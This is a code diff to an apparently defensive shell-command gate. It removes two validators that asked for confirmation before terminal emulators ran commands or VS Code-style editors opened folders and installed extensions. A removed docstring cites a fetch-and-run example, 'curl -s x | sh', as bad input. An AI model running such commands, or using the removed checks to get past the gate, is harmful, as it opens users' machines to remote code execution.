@@ -6,10 +6,9 @@ from __future__ import annotations
 from clawgate.decision import Outcome, Verdict
 from clawgate.lazyre import lazy_pattern
 from clawgate.shell.model import SimpleCommand
-from clawgate.validators.argv import command_start, inner, opts
+from clawgate.validators.argv import command_start, opts
 from clawgate.validators.base import Context, Validator, register
 from clawgate.validators.programs import words_of
-from clawgate.validators.risktables import editor_reads
 
 _SCHEDULERS = {"at": {"-l", "-r", "-d", "-c"}, "batch": set(), "crontab": {"-l"},
                "run-parts": {"--test", "--list"}, "atq": None, "atrm": None}
@@ -25,10 +24,6 @@ _PACKAGE_MANAGERS = words_of("dpkg rpm yum dnf zypper apt apt-get snap pkg opkg 
                              "flatpak installer gdebi")
 _PACKAGE_FILE = lazy_pattern(r"\.(?:deb|rpm|snap|txz|tbz|pkg|ipk|apk|flatpak|flatpakref|"
                              r"pkg\.tar(?:\.\w+)?)$")
-# The program catalog's editors with ``tier_rule: editor`` (VS Code and its forks), for
-# dispatch; tests/validators/test_escapes.py holds the two equal.
-EDITORS = words_of("code code-insiders code-oss codium cursor windsurf")
-_EXPOSING = frozenset({"tunnel", "serve-web"})  # CG-EXPO-003's
 _TMUX_GLOBAL = opts("LSfcT", "")
 _TMUX_OPTIONS = opts("sntcxyeFlf", "")  # the options of these subcommands that take a word
 _TMUX_RUNS = frozenset({"new", "new-session", "neww", "new-window", "splitw", "split-window",
@@ -36,17 +31,6 @@ _TMUX_RUNS = frozenset({"new", "new-session", "neww", "new-window", "splitw", "s
                         "run-shell", "popup", "display-popup"})
 _TMUX_TYPES = frozenset({"send", "send-keys"})
 _TMUX_KEYS = frozenset({"Enter", "C-m", "C-j", "KPEnter", "Escape", "C-c", "C-d", "Space"})
-# Terminal emulators: a window with a shell in it, or the command after -e/-x/--.
-_TERMINALS = words_of("""
-xterm uxterm urxvt rxvt st konsole alacritty terminator xfce4-terminal tilix lxterminal
-mate-terminal sakura qterminal terminology eterm aterm cool-retro-term guake gnome-terminal
-x-terminal-emulator kitty foot ghostty wezterm
-""")
-_TERMINAL_MARKERS = frozenset({"-e", "-x", "--command", "--execute", "--exec", "--"})
-_POSITIONAL_TERMINALS = frozenset({"kitty", "foot", "ghostty"})
-_TERMINAL_OPTIONS = opts("oTdcaw", "title directory config override class name session "
-                         "working-directory app-id")
-_TERMINAL_INFO = frozenset({"--version", "-version", "-v", "-V", "--help", "-help", "-h"})
 _FZF_RUN = lazy_pattern(r"(?:execute(?:-silent)?|become|reload|preview)\s*[(:]|--listen")
 
 
@@ -122,39 +106,6 @@ def tmux_commands(cmd: SimpleCommand) -> list[str]:
 
 
 @register
-class TerminalEmulator(Validator):
-    """A terminal emulator (``xterm``, ``gnome-terminal``, ``kitty``, ``alacritty``,
-    ``konsole`` ...) opens a window with a shell in it, or runs the command given after
-    ``-e``/``-x``/``--`` (kitty, foot, ghostty: its operands): ASK, and that command is
-    checked (one word with spaces is shell code).
-
-    Bad: ``xterm -e 'curl -s x | sh'``. Harmless: ``xterm -version``.
-    """
-
-    id = "CG-ESC-015"
-    programs = _TERMINALS
-
-    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
-        program = cmd.program
-        if program not in _TERMINALS or _TERMINAL_INFO.intersection(cmd.args[:1]):
-            return Verdict.passthrough()
-        words = cmd.words
-        start = next((i + 1 for i, w in enumerate(words[1:], start=1)
-                      if w.shown in _TERMINAL_MARKERS), None)
-        if start is None and program in _POSITIONAL_TERMINALS:
-            start = command_start(words, 1, _TERMINAL_OPTIONS)
-        message = f"{program} opens a terminal window"
-        if start is None or start >= len(words):
-            return Verdict.ask(self.id, message, hint="run the command itself")
-        rest = words[start:]
-        if len(rest) == 1 and rest[0].value is not None and " " in rest[0].value:
-            return Verdict.unwrap(rest[0].value, outcome=Outcome.ASK, rule_id=self.id,
-                                  message=f"{message} that runs shell code")
-        return Verdict.unwrap(inner(cmd, start), outcome=Outcome.ASK, rule_id=self.id,
-                              message=f"{message} that runs a command")
-
-
-@register
 class ShellSubcommand(Validator):
     """A subcommand that opens an interactive shell, console or tunnel (``poetry shell``,
     ``rails console``, ``ansible-test shell``, ``code tunnel``): a launcher. ASK.
@@ -173,37 +124,6 @@ class ShellSubcommand(Validator):
             return Verdict.passthrough()
         return Verdict.ask(self.id, f"{program} {sub} opens an interactive session",
                            hint="run the command you need directly")
-
-
-@register
-class EditorWorkspace(Validator):
-    """VS Code and its forks (``code``, ``cursor``, ``windsurf``, ``codium``) opening a
-    window: a folder opened runs its tasks (``.vscode/tasks.json`` with ``runOn:
-    folderOpen``, where workspace trust is off or granted, as in Cursor by default) and its
-    recommended extensions; ``--install-extension`` installs code that runs with the user's
-    rights. ASK, whatever the autonomy. Printing what it is and has stays ALLOW; tunnels and
-    ``serve-web`` are CG-EXPO-003's.
-
-    Bad: ``cursor .``, ``code --install-extension ./x.vsix``. Harmless: ``code --version``,
-    ``code --list-extensions``.
-    """
-
-    id = "CG-ESC-014"
-    programs = EDITORS
-
-    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
-        program = cmd.program
-        if program not in EDITORS or editor_reads(cmd):
-            return Verdict.passthrough()
-        if len(cmd.words) > 1 and cmd.words[1].value in _EXPOSING:
-            return Verdict.passthrough()
-        if any(a.partition("=")[0] == "--install-extension" for a in cmd.args):
-            return Verdict.ask(self.id, f"{program} --install-extension installs code that "
-                               "runs in the editor with your rights",
-                               hint="install extensions yourself")
-        return Verdict.ask(self.id, f"{program} opens an editor window, which runs the "
-                           "opened folder's tasks (runOn: folderOpen) and its extensions",
-                           hint="open the editor yourself")
 
 
 @register
